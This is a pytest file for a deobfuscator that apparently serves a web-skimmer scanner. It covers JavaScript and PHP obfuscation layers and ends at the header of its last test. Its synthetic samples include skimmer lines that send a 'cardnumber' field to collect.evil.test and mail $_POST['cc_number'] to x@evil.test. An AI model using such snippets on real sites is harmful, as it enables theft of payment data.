"""Tests of the light deobfuscation (skimguard.analyze.normalize).

Every sample here is synthetic and written for these tests. The obfuscator.io-style samples are
built by helpers below so that the rotation count and the checksum are known exactly.
"""

from __future__ import annotations

import base64
import random
import re
import time
import zlib

import pytest

import skimguard.analyze.normalize as normalize_module
from skimguard.analyze.model import Language, Segment
from skimguard.analyze.normalize import (
    OUTPUT_FLOOR,
    PhpKind,
    js_literal,
    js_string_value,
    normalize,
    php_string_text,
    php_string_value,
    php_tokens,
    tokenize_js,
)


def js(text: str, **kw: int) -> tuple[str, tuple[str, ...]]:
    r = normalize(Segment(Language.JS, text), **kw)
    return r.text, r.steps


def php(text: str) -> tuple[str, tuple[str, ...]]:
    r = normalize(Segment(Language.PHP, text))
    return r.text, r.steps


# --- JavaScript: single transformations -------------------------------------------------------


def test_hex_escapes_become_characters_and_quotes_stay_valid() -> None:
    assert js("var a = '\\x68\\x74\\x74\\x70\\x27';") == ("var a = 'http\\'';", ("hex-escape",))
    # a backslash is re-escaped, a control character stays escaped, other escapes are untouched
    assert js('b = "\\x5c\\x0a\\n\\x41";') == ('b = "\\\\\\x0a\\nA";', ("hex-escape",))
    # ``\\x41`` is an escaped backslash followed by "x41": nothing to decode
    assert js("c = '\\\\x41';") == ("c = '\\\\x41';", ())


def test_unicode_and_octal_escapes() -> None:
    assert js('var b = "\\u0041\\u{42}\\u{1F600}\\ud83d\\ude00";') == (
        'var b = "AB\U0001f600\U0001f600";',
        ("unicode-escape",),
    )
    assert js("o = '\\101\\102';") == ("o = 'AB';", ("octal-escape",))
    # a lone surrogate cannot be written as a character: it stays an escape
    assert js("s = '\\ud800';") == ("s = '\\ud800';", ())


def test_concat_folds_only_where_precedence_allows() -> None:
    assert js("x = 'a' + \"b\" + 'c';") == ("x = 'abc';", ("concat",))
    assert js("f('a' + 'b', c + 'd' + 'e')") == ("f('ab', c + 'de')", ("concat",))
    # (y - 'a') + 'b' is not y - 'ab'; 'b'.length binds first; '-' before: unchanged
    assert js("x = y - 'a' + 'b';") == ("x = y - 'a' + 'b';", ())
    assert js("x = 'a' + 'b'.length;") == ("x = 'a' + 'b'.length;", ())
    # the last literal is left out when something binds tighter after it
    assert js("x = 'a' + 'b' + 'c'[0];") == ("x = 'ab' + 'c'[0];", ("concat",))
    assert js("t = `x${'a' + 'b'}y`;") == ("t = `x${'ab'}y`;", ("concat",))


def test_from_char_code() -> None:
    assert js("x = String.fromCharCode(104, 0x74, 115-1);") == ('x = "htr";', ("fromCharCode",))
    assert js("x = String.fromCharCode.apply(null, [104, 105]);") == ('x = "hi";', ("fromCharCode",))
    assert js("x = String.fromCharCode(0xD83D, 0xDE00, 34);") == ('x = "\U0001f600\\"";', ("fromCharCode",))
    # a variable argument: nothing to do
    assert js("x = String.fromCharCode(104, y);") == ("x = String.fromCharCode(104, y);", ())


def test_atob_and_uri_decoding() -> None:
    assert js("x = window.atob('aGVsbG8=') + y; z = foo.atob('aGVsbG8=');") == (
        "x = 'hello' + y; z = foo.atob('aGVsbG8=');",
        ("atob",),
    )
    # decodes to non-printable bytes: left alone
    assert js("atob('AAEC')") == ("atob('AAEC')", ())
    assert js("var x = unescape('%61%62%u0063'); y = decodeURIComponent('%E2%82%AC%2F');") == (
        "var x = 'abc'; y = '\u20ac/';",
        ("unescape", "uri-decode"),
    )
    assert js("decodeURI('%2F%41')") == ("'%2FA'", ("uri-decode",))
    assert js("decodeURIComponent('%E2%82')") == ("decodeURIComponent('%E2%82')", ())


def test_eval_function_and_timers_are_spliced() -> None:
    assert js("eval('a = 1; b()');\nnext();") == ("a = 1; b();\nnext();", ("eval-literal",))
    # not at statement level: wrapped in parentheses
    assert js("x = eval('1 + 2');") == ("x = (1 + 2);", ("eval-literal",))
    assert js("new Function('a', 'return a+1')(2);") == ("(function(a){\nreturn a+1\n})(2);", ("eval-literal",))
    assert js("setTimeout('alert(1)', 10);") == ("setTimeout(function(){\nalert(1)\n}, 10);", ("eval-literal",))
    # a payload that would swallow the rest of the file is not spliced
    assert js("eval('/*'); steal();") == ("eval('/*'); steal();", ())
    assert js("eval('x = \"');") == ("eval('x = \"');", ())
    # a trailing line comment in the payload does not comment out what follows
    assert js("eval('go() // c'); after();") == ("go() // c\n; after();", ("eval-literal",))


def test_packer_is_unpacked_statically() -> None:
    decoder = (
        "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};"
        "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
    )
    words = "var|i|document|createElement|img|src|https|collect|test|x|url"
    code = decoder + "('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9\\';a()',11,11,'" + words + "'.split('|'),0,{}))"
    assert js(code) == ("var i=document.createElement('img');i.src='https://collect.test/x';url()", ("packer",))
    # base 62: "A" is 36
    words62 = "|".join(["w"] * 36 + ["steal"])
    code62 = decoder + "('A(1)',62,37,'" + words62 + "'.split('|'),0,{}))"
    assert js(code62) == ("steal(w)", ("packer",))


def test_bracket_member() -> None:
    assert js("window['location']['href'] = x; a?.['b']; ['c']; o[\"x-y\"];") == (
        "window.location.href = x; a?.b; ['c']; o[\"x-y\"];",
        ("bracket-member",),
    )
    assert js("1['toString']") == ("1['toString']", ())


def test_nested_eval_atob_fromcharcode_hex() -> None:
    payload = 'var u=String.fromCharCode(0x68,0x69)+"\\x21";document["cookie"]=u;'
    code = "eval(atob('" + base64.b64encode(payload.encode()).decode() + "'))"
    # the payload is normalized before it is spliced: one round does it all
    assert js(code, max_rounds=1) == (
        'var u="hi!";document.cookie=u;',
        ("atob", "eval-literal", "hex-escape", "fromCharCode", "concat", "bracket-member"),
    )


def test_nothing_to_undo_returns_same_text() -> None:
    code = "function add(a, b) {\n  return a + b; // sum\n}\nconst s = `t${add(1, 2)}`; /re'g/.test(s);\n"
    r = normalize(Segment(Language.JS, code))
    assert r.text == code
    assert r.steps == ()
    assert not r.changed


def test_html_and_text_segments_are_unchanged() -> None:
    for lang in (Language.HTML, Language.TEXT):
        seg = Segment(lang, "<script>eval('\\x41')</script>")
        r = normalize(seg)
        assert (r.text, r.steps, r.segment) == (seg.text, (), seg)


def test_rounds_and_peel_depth(monkeypatch: pytest.MonkeyPatch) -> None:
    # a literal made by fromCharCode can only be concatenated in the next round
    assert js("x = String.fromCharCode(104) + 'i';") == ('x = "hi";', ("fromCharCode", "concat"))
    assert js("x = String.fromCharCode(104) + 'i';", max_rounds=1) == ("x = \"h\" + 'i';", ("fromCharCode",))
    assert js("x = String.fromCharCode(104) + 'i';", max_rounds=0) == ("x = String.fromCharCode(104) + 'i';", ())
    inner = base64.b64encode(b"steal()").decode()
    middle = base64.b64encode(f"eval(atob('{inner}'))".encode()).decode()
    code = f"eval(atob('{base64.b64encode(f'eval(atob({middle!r}))'.encode()).decode()}'))"
    assert js(code, max_rounds=1) == ("steal()", ("atob", "eval-literal"))
    # payloads nested deeper than MAX_PEEL_DEPTH wait for the next round
    monkeypatch.setattr(normalize_module, "MAX_PEEL_DEPTH", 1)
    assert js(code, max_rounds=1) == (f"eval(atob('{inner}'))", ("atob", "eval-literal"))
    assert js(code, max_rounds=2) == ("steal()", ("atob", "eval-literal", "atob", "eval-literal"))


# --- obfuscator.io-style string arrays -------------------------------------------------------


def _parse_int(s: str) -> float:
    m = re.match(r"\s*([+-]?)([0-9]+)", s)
    return float("nan") if not m else (-1.0 if m.group(1) == "-" else 1.0) * float(m.group(2))


def test_string_array_old_style_with_count_rotation() -> None:
    # written order; rotated left once by the IIFE -> ['Hello World', 'warn', 'log']
    code = (
        "var _0x1a2b=['log','Hello\\x20World','warn'];\n"
        "(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){"
        "_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1));\n"
        "var _0x2b3c=function(_0x4d5e,_0x6f7a){_0x4d5e=_0x4d5e-0x0;var _0x8b9c=_0x1a2b[_0x4d5e];return _0x8b9c;};\n"
        "console[_0x2b3c('0x2')](_0x2b3c('0x0'));"
    )
    text, steps = js(code)
    assert text.endswith("\nconsole.log('Hello World');")
    assert steps == ("hex-escape", "string-array", "bracket-member")


FINAL = [
    "log",
    "1384xQzWn",
    "https://collect.evil.test/c",
    "29kLmNo",
    "send",
    "7710aBc",
    "cardnumber",
    "4012ppQ",
    "value",
]
OFFSET = 0x1A0


def _checksum(arr: list[str]) -> float:
    def g(i: int) -> float:
        return _parse_int(arr[i - OFFSET])

    return g(0x1A1) / 0x1 + -g(0x1A3) / 0x2 * (g(0x1A5) / 0x3) + g(0x1A7) / 0x4


def _new_style(written: list[str], target: int, accessor_body: str, call_key: str = "") -> str:
    k = f",'{call_key}'" if call_key else ""
    first = f"'{call_key}'" if call_key else "0"
    return (
        "function _0x4e1c(){var _0x2b1a=["
        + ",".join(f"'{x}'" for x in written)
        + "];_0x4e1c=function(){return _0x2b1a;};return _0x4e1c();}"
        + "function _0x5f2d(_0x3a1b,_0x1c2d){var _0x4e1c1=_0x4e1c();return _0x5f2d=function(_0x5f2d1,_0x3a1b1){"
        + "_0x5f2d1=_0x5f2d1-0x1a0;var _0x2b1a1=_0x4e1c1[_0x5f2d1];"
        + accessor_body
        + "return _0x2b1a1;},_0x5f2d(_0x3a1b,_0x1c2d);}"
        + "(function(_0x1,_0x2){var _0x3=_0x5f2d,_0x4=_0x1();while(!![]){try{var _0x5="
        + f"parseInt(_0x3(0x1a1{k}))/0x1+-parseInt(_0x3(0x1a3{k}))/0x2*(parseInt(_0x3(0x1a5{k}))/0x3)"
        + f"+parseInt(_0x3(0x1a7{k}))/0x4;if(_0x5===_0x2)break;else _0x4['push'](_0x4['shift']());}}"
        + "catch(_0x6){_0x4['push'](_0x4['shift']());}}}"
        + f"(_0x4e1c,{target}));"
        + "function _0xw(_0xa,_0xb){return _0x5f2d(_0xb- -0x10,_0xa);}"
        + "(function(){var _0x7=_0x5f2d;var x=new XMLHttpRequest();"
        + f"x['open']('POST',_0x7(0x1a2{k}));document['getElementById'](_0x7(0x1a6{k}))[_0x7(0x1a8{k})];"
        + f"x[_0xw({first},0x194)]();}}());"
    )


def _rotated_back(final: list[str], r: int) -> list[str]:
    written = final[-r:] + final[:-r]
    firsts = [k for k in range(len(written)) if _checksum(written[k:] + written[:k]) == _checksum(final)]
    assert firsts[0] == r  # the rotation loop stops exactly here
    return written


def test_string_array_new_style_checksum_rotation_aliases_and_wrappers() -> None:
    target = _checksum(FINAL)
    assert target == -34878.0
    code = _new_style(_rotated_back(FINAL, 4), int(target), "")
    text, steps = js(code)
    tail = text[text.index("(function(){var _0x7") :]
    assert tail == (
        "(function(){var _0x7=_0x5f2d;var x=new XMLHttpRequest();x.open('POST','https://collect.evil.test/c');"
        "document.getElementById('cardnumber').value;x.send();}());"
    )
    assert steps == ("string-array", "bracket-member")
    # the checksum calls inside the rotation loop are kept (a later round must not re-rotate)
    assert "parseInt(_0x3(0x1a1))" in text


def test_string_array_with_unknown_rotation_is_left_alone() -> None:
    code = _new_style(_rotated_back(FINAL, 4), 12345, "")
    text, steps = js(code)
    assert "_0x7(0x1a2)" in text and "collect.evil.test/c'" not in text.split("(function(){var _0x7")[1]
    assert "string-array" not in steps


ALPHABET = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="
STD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def _b64_custom(data: bytes) -> str:
    return base64.b64encode(data).decode().rstrip("=").translate(str.maketrans(STD, ALPHABET[:64]))


def _rc4(data: str, key: str) -> str:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + ord(key[i % len(key)])) % 256
        s[i], s[j] = s[j], s[i]
    i = j = 0
    out = []
    for ch in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(chr(ord(ch) ^ s[(s[i] + s[j]) % 256]))
    return "".join(out)


DECODER = (
    "if(_0x5f2d['cache']===undefined){var _0xd=function(_0xe){var _0xf='" + ALPHABET + "';"
    "return decodeURIComponent(_0xe);};_0x5f2d['cache']={};}"
)


def test_string_array_base64_encoding() -> None:
    written = [_b64_custom(v.encode()) for v in _rotated_back(FINAL, 2)]
    code = _new_style(written, int(_checksum(FINAL)), DECODER)
    text, steps = js(code)
    assert "x.open('POST','https://collect.evil.test/c');document.getElementById('cardnumber').value;x.send();" in text
    assert steps == ("string-array", "bracket-member")


def test_string_array_rc4_encoding() -> None:
    key = "k3Y!"
    written = [_b64_custom(_rc4(v, key).encode("utf-8")) for v in _rotated_back(FINAL, 3)]
    rc4_marker = (
        "var _0xs=[],_0xj=0x0,_0xo='';for(var _0xi=0x0;_0xi<0x100;_0xi++){_0xs[_0xi]=_0xi;}"
        "_0xo+=String.fromCharCode(_0xe.charCodeAt(_0xi)^_0xs[(_0xs[_0xi]+_0xs[_0xj])%0x100]);"
    )
    code = _new_style(written, int(_checksum(FINAL)), DECODER + rc4_marker, call_key=key)
    text, steps = js(code)
    assert "x.open('POST','https://collect.evil.test/c');document.getElementById('cardnumber').value;x.send();" in text
    assert steps == ("string-array", "bracket-member")


def test_string_array_with_number_expressions_and_constant_objects() -> None:
    """obfuscator.io's "medium" style: offsets and counts written as arithmetic, call arguments
    kept in constant objects, four-parameter function wrappers, strings split and re-joined."""
    target = int(_checksum(FINAL))
    written = [_b64_custom(v.encode()) for v in _rotated_back(FINAL, 5)]
    code = (
        "function _0x4e1c(){var _0x2b1a=["
        + ",".join(f"'{x}'" for x in written)
        + "];_0x4e1c=function(){return _0x2b1a;};return _0x4e1c();}"
        "function _0x5f2d(_0x3a1b,_0x1c2d){_0x3a1b=_0x3a1b-(0x1a*0x11+-0x1a);var _0x4e=_0x4e1c();"
        "var _0x2b=_0x4e[_0x3a1b];" + DECODER + "return _0x2b;}"
        "(function(_0x1,_0x2){var _0xo={_0xk1:0x1b1,_0xk3:0x1b3};"
        "function _0x3(_0xa,_0xb,_0xc,_0xd){return _0x5f2d(_0xc- -0x10,_0xb);}var _0x4=_0x1();"
        "while(!![]){try{var _0x5=parseInt(_0x3(0x0,0x0,_0xo._0xk1-0x20))/0x1"
        "+-parseInt(_0x3(0x0,0x0,_0xo['_0xk3']-0x20))/(0x1+0x1)*(parseInt(_0x3(0x0,0x0,0x195))/0x3)"
        "+parseInt(_0x3(0x0,0x0,0x197))/0x4;"
        "if(_0x5===_0x2)break;else _0x4['push'](_0x4['shift']());}catch(_0x6){_0x4['push'](_0x4['shift']());}}}"
        f"(_0x4e1c,-0x2*0x10+{target + 32}));"
        "(function(){var _0xk={_0xp:0x1a2,_0xq:0x1a6},_0xr={'aBcDe':'POST'};"
        "function _0xw(_0xa,_0xb,_0xc2,_0xd){return _0x5f2d(_0xd-0x10,_0xa);}"
        "var x=new XMLHttpRequest();x['open'](_0xr['aBcDe'],_0xw(0x0,0x0,0x0,_0xk._0xp+0x10));"
        "document['getElem'+'entById'](_0xw(0x0,0x0,0x0,_0xk['_0xq']+0x10))[_0x5f2d(0x1a8)];}());"
    )
    text, steps = js(code)
    assert text.endswith(
        "(function(){var _0xk={_0xp:0x1a2,_0xq:0x1a6},_0xr={'aBcDe':'POST'};"
        "function _0xw(_0xa,_0xb,_0xc2,_0xd){return _0x5f2d(_0xd-0x10,_0xa);}"
        "var x=new XMLHttpRequest();x.open('POST','https://collect.evil.test/c');"
        "document.getElementById('cardnumber').value;}());"
    )
    assert steps == ("concat", "constant-object", "string-array", "bracket-member")


def test_plain_string_array_indexed_by_literals() -> None:
    code = 'var _0xc1=["\\x76\\x61\\x6C\\x75\\x65","cc"];x[_0xc1[0]]=_0xc1[1];'
    assert js(code) == ('var _0xc1=["value","cc"];x.value="cc";', ("hex-escape", "string-array", "bracket-member"))
    # written to, or used as a whole: not resolved
    for other in ('var a=["x","y"];a[0]="z";f(a[0]);', 'var a=["x","y"];f(a, a[1]);'):
        assert js(other) == (other, ())


def test_constant_objects_are_inlined_only_when_never_written() -> None:
    code = "var s=['p','q'];var o={a:'x',b:0x10,c:function(){}};f(o.a, o['b'], o.c, s);"
    assert js(code) == ("var s=['p','q'];var o={a:'x',b:0x10,c:function(){}};f('x', 16, o.c, s);", ("constant-object",))
    for other in (
        "var s=['p','q'];var o={a:'x'};o.a='y';f(o.a, s);",
        "var s=['p','q'];var o={a:'x'};g(o);f(o.a, s);",
        "var s=['p','q'];var o={a:'x'};function h(o){return o.a}",
    ):
        assert js(other) == (other, ())


def test_lookup_function_without_index_shift_is_not_an_accessor() -> None:
    code = "var t=['a','b','c'];function pick(i){log(i);return t[i];}go(pick(1));"
    assert js(code) == (code, ())


# --- PHP -------------------------------------------------------------------------------------


def test_php_decoders_fold() -> None:
    assert php("<?php echo base64_decode('aGVsbG8='); ?>") == ("<?php echo 'hello'; ?>", ("base64_decode",))
    assert php(
        "<?php $a = \"\\x41\\101\\u{42}\"; $b = chr(65).chr(66) . 'c'; $c = str_rot13('uryyb'); "
        "$d = strrev('olleh'); $e = hex2bin('6869'); $f = str_replace('#', '', 'a#b');"
    ) == (
        "<?php $a = 'AAB'; $b = 'ABc'; $c = 'hello'; $d = 'hello'; $e = 'hi'; $f = 'ab';",
        ("php-escape", "chr", "concat", "str_rot13", "strrev", "hex2bin", "str_replace"),
    )
    assert php("<?php $u = rawurldecode('%3Cb%3E') . urldecode('a+b');") == (
        "<?php $u = '<b>a b';",
        ("rawurldecode", "urldecode", "concat"),
    )


def test_php_gzinflate_eval_payload_is_spliced() -> None:
    payload = b"$c = $_POST['cc_number']; mail('x@evil.test', 'c', $c);"
    z = base64.b64encode(zlib.compress(payload)[2:-4]).decode()
    assert php(f"<?php @eval(gzinflate(base64_decode('{z}'))); echo 1;") == (
        "<?php $c = $_POST['cc_number']; mail('x@evil.test', 'c', $c);; echo 1;",
        ("base64_decode", "gzinflate", "php-eval-literal"),
    )
    zc = base64.b64encode(zlib.compress(b"echo 'x';")).decode()
    assert php(f"<?php eval(gzuncompress(base64_decode('{zc}')));") == (
        "<?php echo 'x';;",
        ("base64_decode", "gzuncompress", "php-eval-literal"),
    )


def test_php_eval_of_escaped_string_and_html_mode_payload() -> None:
    assert php("<?php eval(\"\\x65\\x63\\x68\\x6f 'hi';\"); // done") == (
        "<?php echo 'hi';; // done",
        ("php-escape", "php-eval-literal"),
    )
    assert php("<?php eval('?><b>x</b>'); $y = 1;") == ("<?php ?><b>x</b><?php ; $y = 1;", ("php-eval-literal",))
    # an unterminated payload is not spliced
    assert php("<?php eval('/* '); steal();") == ("<?php eval('/* '); steal();", ())


def test_php_precedence_and_methods() -> None:
    code = "<?php $a = 2 * 'a' . 'b'; $b = 'a' . 'b'[0]; $c = $o->base64_decode('aGk='); $d = \"\\x41$v\";"
    assert php(code) == (code.replace('"\\x41$v"', '"A$v"'), ("php-escape",))


def test_php_zlib_is_bounded() -> None:
    bomb = base64.b64encode(zlib.compress(b"\0" * (8 * 1024 * 1024), 9)[2:-4]).decode()
    code = f"<?php $x = gzinflate(base64_decode('{bomb}'));"
    assert php(code) == (code, ())


def test_php_nothing_to_undo() -> None:
    code = "<?php\nnamespace A\\B;\n$x = \"hi $name\\n\"; echo 'a' , $b; ?>\n<p>text</p>\n"
    assert php(code) == (code, ())


# --- literals and tokenizers -----------------------------------------------------------------


def test_literal_helpers_round_trip() -> None:
    for value in ("plain", "q'uo\"te", "back\\slash", "nl\nnul\0", "\u2028", "\U0001f600"):
        for quote in ("'", '"'):
            assert js_string_value(js_literal(value, quote)) == value
    assert php_string_value("'a\\'b\\\\c\\n'") == b"a'b\\c\\n"
    assert php_string_value('"a\\x41\\101\\n"') == b"aAA\n"
    assert php_string_value('"hi $name"') is None
    assert php_string_value("<<<'EOT'\n  raw $x\n  EOT") == b"raw $x"
    assert php_string_value("<<<EOT\n  a\\x41\n    b\n  EOT") == b"aA\n  b"


def test_tokenizers_give_the_text_back() -> None:
    js_code = "a = b / c; r = /[/]'/g; s = `x${ {a:1}['a'] }y${z}`; // end\n/* c */ 'q\\'';\n"
    toks = tokenize_js(js_code)
    assert "".join(t[2] + t[1] for t in toks) == js_code
    assert [t[1] for t in toks if t[0] == 4] == ["/[/]'/g"]  # one regex literal
    php_code = "<p><?php # c ?>\n<?= $a ?><? echo <<<X\nhi\nX; ?>tail"
    ptoks = php_tokens(php_code)
    assert "".join(t.trivia + t.text for t in ptoks) == php_code
    assert [t.kind.name for t in ptoks] == [
        "HTML", "OPEN", "CLOSE", "OPEN", "VAR", "CLOSE", "OPEN", "ID", "STR", "PUNCT", "CLOSE", "HTML", "EOF",
    ]  # fmt: skip


# --- bounds ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "x = " + "'a' + " * 170_000 + "'b';",
        "String.fromCharCode(" + "65," * 300_000 + "66);",
        "eval('" + "\\x41" * 250_000 + "');",
        "(" * 500_000 + "'a'+'b'" + ")" * 500_000,
        "`${" * 300_000,
        "/[" * 500_000,
        "var _0x=[" + ",".join(["'s'"] * 230_000) + "];(function(a,n){while(!![]){try{var c=parseInt("
        "_0xf(0x0))/0x1;if(c===n)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}"
        "(_0x,0x1));function _0xf(i,k){i=i-0x0;var s=_0x[i];return s;}_0xf(0x1);",
        "eval(" * 200_000,
        "'\\u0041" * 170_000,
    ],
)
def test_js_adversarial_inputs_are_fast(text: str) -> None:
    assert len(text) >= 900_000
    start = time.perf_counter()
    r = normalize(Segment(Language.JS, text))
    assert time.perf_counter() - start < 2.0
    assert len(r.text) <= max(4 * len(text), OUTPUT_FLOOR)


@pytest.mark.parametrize(
    "text",
    [
        "<?php\n" + "'a'." * 260_000 + "'b';",
        "<?php\n" + "eval(" * 200_000,
        "<?php\n" + "chr(65)." * 130_000 + "'x';",
        "<?php\n" + "strrev(" * 200_000 + "'x'" + ")" * 200_000 + ";",
        "<?php\n" + '"\\x41' * 250_000,
    ],
)
def test_php_adversarial_inputs_are_fast(text: str) -> None:
    assert len(text) >= 900_000
    start = time.perf_counter()
    r = normalize(Segment(Language.PHP, text))
    assert time.perf_counter() - start < 2.0
    assert len(r.text) <= max(4 * len(text), OUTPUT_FLOOR)


def test_output_size_is_bounded() -> None:
    big = "Z" * 150_000
    refs = "".join(f"f({'_0xa(0x1)' if i % 2 else '_0xa(0x0)'});" for i in range(40))
    code = f"var _0xs=['{big}','b'];var _0xa=function(i,k){{i=i-0x0;var v=_0xs[i];return v;}};" + refs
    assert 4 * len(code) < OUTPUT_FLOOR  # so the 1 MiB floor is the limit
    r = normalize(Segment(Language.JS, code))
    assert r.steps == ("string-array",)
    assert len(r.text) <= OUTPUT_FLOOR
    assert r.text.count(big) == 6  # the array itself plus the 5 replacements that fit
    assert r.text.count("_0xa(0x0)") == 15 and r.text.count("f('b')") == 20


# --- speed-ups that must not change the result -------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "value"),
    [
        ('"a\\\\nb"', b"a\\nb"),  # an escaped backslash, then a plain n
        ('"a\\nb\\tc"', b"a\nb\tc"),
        ('"\\\\\\n"', b"\\\n"),
        ('"\\$x"', b"$x"),
        ('"\\\\$x"', None),  # \\ then $x: interpolation
        ('"{$a}"', None),
        ('"\\{$a"', None),
        ('"$ x"', b"$ x"),
        ('"a\\qb"', b"a\\qb"),  # not an escape
        ('"\\x41\\n"', b"A\n"),
        ('"\\u{263A}"', "\u263a".encode()),
        ('"\\e\\v\\f"', b"\x1b\x0b\x0c"),
        ('"end\\\\"', b"end\\"),
    ],
)
def test_double_quoted_php_values(raw: str, value: bytes | None) -> None:
    assert php_string_value(raw) == value


def test_php_statements_without_work_are_left_whole() -> None:
    # escapes that spell no printable ASCII, and literals next to non-literals, are not rewritten
    assert php("<?php $a = \"\\x0a\"; $b = \"A\\x42\"; $c = ('x') . 'y';") == (
        "<?php $a = \"\\x0a\"; $b = 'AB'; $c = ('x') . 'y';",
        ("php-escape",),
    )
    # comments between the pieces of a concatenation do not hide it
    code = "<?php $n = \"\\n\"; $f = 'ba' /* x */ . // y\n 'se64_decode';"
    assert php(code) == ("<?php $n = \"\\n\"; $f = 'base64_decode';", ("concat",))
    # statements on both sides of markup
    assert php("<?php $a = 1; ?>\n<p>'x' . 'y'</p>\n<?php $b = 'c' . 'd'; $c = 2;") == (
        "<?php $a = 1; ?>\n<p>'x' . 'y'</p>\n<?php $b = 'cd'; $c = 2;",
        ("concat",),
    )


_PHP_FRAGMENTS = (
    "$a = 1;", "echo 'x';", " ", "\n", "{", "}", "if ($x) ", "?>", "?>\n<p>html 'q' . 'r'</p>\n<?php ", "// c ?> ",
    "# c;{ ", "/* ; { */", "'a;b'", '"c{d}"', "'p' . 'q';", "\"\\x41\\x42\" . 'z';", "base64_decode('aGk=');",
    "strrev('cba');", "eval('echo 1;');", "<<<EOT\n;{}\nEOT;\n", "<<<'N'\nx;\nN;\n", "`ls;`", "$o->chr(65);",
    "chr(72) . chr(105);", "'", "/*", "<<<X",
)  # fmt: skip


def test_php_statement_tokens_match_plain_tokens(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(normalize_module, "_PHP_FEW_STATEMENTS", -1)  # always the statement-wise tokens
    rng = random.Random(11)
    texts = ["<?php " + "".join(rng.choice(_PHP_FRAGMENTS) for _ in range(rng.randint(1, 40))) for _ in range(800)]
    for text in texts:
        toks = normalize_module._php_pass_tokens(text, start_in_code=False, deadline=None)
        assert "".join(t.trivia + t.text for t in toks) == text
    fast = [php(text) for text in texts]
    monkeypatch.setattr(
        normalize_module,
        "_php_pass_tokens",
        lambda text, *, start_in_code, deadline, low=None: php_tokens(
            text, start_in_code=start_in_code, deadline=deadline
        ),
    )
    assert fast == [php(text) for text in texts]


def test_an_onion_of_forty_eval_layers_is_peeled_quickly() -> None:
    code = "steal($_POST['cc_number']);"
    for _ in range(40):
        code = f"eval(base64_decode('{base64.b64encode(code.encode()).decode()}'));"
    start = time.perf_counter()
    text, steps = php("<?php " + code)
    assert time.perf_counter() - start < 1.0
    assert text == "<?php steal($_POST['cc_number']);" + ";" * 40
    assert steps == ("base64_decode", "php-eval-literal") * 2  # 32 layers in round one, 8 in round two


def test_a_spent_deadline_leaves_the_text_alone() -> None:
    seg = Segment(Language.JS, "x = 'a' + 'b';")
    assert normalize(seg, deadline=time.monotonic() - 1).steps == ()
    assert normalize(seg, deadline=time.monotonic() + 60).text == "x = 'ab';"


# --- decoders reached through brackets, control-flow flattening (issue 4) -----------------------


def test_atob_through_brackets_and_this() -> None:
    assert js("x = this['atob']('aGVsbG8=');") == ("x = 'hello';", ("atob",))
    assert js("y = window[\"atob\"](\"aGk=\") + self['unescape']('%61');") == (
        'y = "hia";',
        ("atob", "unescape", "concat"),
    )
    assert js("s = top['decodeURIComponent']('%41');") == ("s = 'A';", ("uri-decode",))
    assert js("z = this.atob('aGk=');") == ("z = 'hi';", ("atob",))
    # an object that is not a global (or ``this``) may have its own atob: only the brackets go
    assert js("q = foo['atob']('aGk=');") == ("q = foo.atob('aGk=');", ("bracket-member",))
    assert js("r = a.this['atob']('aGk=');") == ("r = a.this.atob('aGk=');", ("bracket-member",))
    # the decoded payload of an eval is spliced in the same round
    assert js("eval(this['atob']('ZG9jdW1lbnQuY29va2ll'));", max_rounds=1) == (
        "document.cookie;",
        ("atob", "eval-literal"),
    )


_FLAT = "var o='{order}'.split('|'),i=0;while(!![]){{switch(o[i++]){{{cases}}}break;}}"


def test_control_flow_flattening_is_undone() -> None:
    code = "function f(){var o='2|0|1'.split('|'),i=0;while(!![]){switch(o[i++]){case'0':b();continue;"
    code += "case'1':return c();case'2':a();continue;}break;}}"
    assert js(code) == ("function f(){var o='2|0|1'.split('|'),i=0;{a();b();return c();}}", ("control-flow",))
    # obfuscator.io's other spellings: ['split'], a hexadecimal zero, for(;;), numbers as labels
    code = "var o='1|0'['split']('|'),i=0x0;for(;;){switch(o[i++]){case 0:b();continue;case 1:a();continue;}break;}"
    assert js(code) == ("var o='1|0'.split('|'),i=0x0;{a();b();}", ("bracket-member", "control-flow"))


def test_flattening_inside_flattening_takes_a_round_per_level() -> None:
    inner = "var p='1|0'.split('|'),j=0;while(!![]){switch(p[j++]){case '0':d();continue;case '1':c();continue;}break;}"
    code = _FLAT.format(order="1|0", cases=f"case '0':{inner}continue;case '1':a();continue;")
    flat_inner = "var p='1|0'.split('|'),j=0;{c();d();}"
    assert js(code) == ("var o='1|0'.split('|'),i=0;{a();" + flat_inner + "}", ("control-flow", "control-flow"))
    assert js(code, max_rounds=1)[0] == _FLAT.format(
        order="1|0", cases=f"case '0':{flat_inner}continue;case '1':a();continue;"
    )


@pytest.mark.parametrize(
    "code",
    [
        # a case that breaks out of the switch, one that falls through, a label the order lacks
        _FLAT.format(order="1|0", cases="case '0':b();continue;case '1':a();break;"),
        _FLAT.format(order="1|0", cases="case '0':b();continue;case '1':a();"),
        _FLAT.format(order="1|0|2", cases="case '0':b();continue;case '1':a();continue;"),
        # the order array is used elsewhere, the counter does not start at 0, the order is not literal
        _FLAT.format(order="1|0", cases="case '0':b();continue;case '1':a();continue;") + "o=[];",
        _FLAT.format(order="1|0", cases="case '0':b();continue;case '1':a();continue;").replace("i=0", "i=1"),
        _FLAT.format(order="1|0", cases="case '0':b();continue;case '1':a();continue;").replace("'1|0'", "x"),
        # a loop that can end
        _FLAT.format(order="1|0", cases="case '0':b();continue;case '1':a();continue;").replace("!![]", "k"),
    ],
)
def test_control_flow_flattening_of_another_shape_is_left_alone(code: str) -> None:
    assert js(code) == (code, ())


def test_php_escape_runs_decode_like_single_escapes() -> None:
